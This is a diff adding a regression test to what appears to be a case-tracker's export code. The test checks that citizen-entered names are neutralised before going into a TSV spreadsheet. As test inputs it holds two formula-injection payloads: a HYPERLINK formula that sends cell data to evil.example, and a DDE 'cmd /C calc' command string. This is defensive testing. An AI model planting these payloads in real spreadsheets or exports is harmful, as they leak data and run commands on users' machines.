@@ -6,6 +6,7 @@ each test creates them first, as the service's database would already have them.
 
 from __future__ import annotations
 
+import csv
 from contextlib import contextmanager
 from datetime import UTC
 from datetime import date
@@ -439,6 +440,28 @@ def test_export_to_a_file_is_utf8_and_the_same_as_standard_output(runner, towns,
     assert "Palautordera\t" in target.read_text(encoding="utf-8")
     assert "Polítiques".encode() in target.read_bytes()
     assert not list(tmp_path.glob("*.part"))
+
+
+def test_export_never_hands_a_spreadsheet_a_formula_and_reads_its_own_file_back(
+    runner, towns, tmp_path
+):
+    """Security review finding 10: names typed by citizens went out as formulas."""
+    import_file(runner, SEED)
+    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    case = next(iter(cases().values()))
+    case.interested_name, case.status_detail = attack, "-2+3+cmd|' /C calc'!A0"
+    db.session.commit()
+    target = tmp_path / "export.tsv"
+    assert runner.invoke(args=["cases", "export", "--output", str(target)]).exit_code == 0
+    line = next(line for line in target.read_text(encoding="utf-8").split("\n") if "evil" in line)
+    cells = next(csv.reader([line], delimiter="\t"))
+    assert cells[tracker.HEADER.index("Nom interessat")] == "'" + attack
+    assert cells[tracker.HEADER.index("Detall estat")] == "'-2+3+cmd|' /C calc'!A0"
+    # Imported again, the apostrophes go: the case is as it was.
+    number = case.number
+    assert import_file(runner, target).exit_code == 0
+    again = cases()[number]
+    assert (again.interested_name, again.status_detail) == (attack, "-2+3+cmd|' /C calc'!A0")
 
 
 def test_an_empty_database_exports_the_header_only(runner, app):
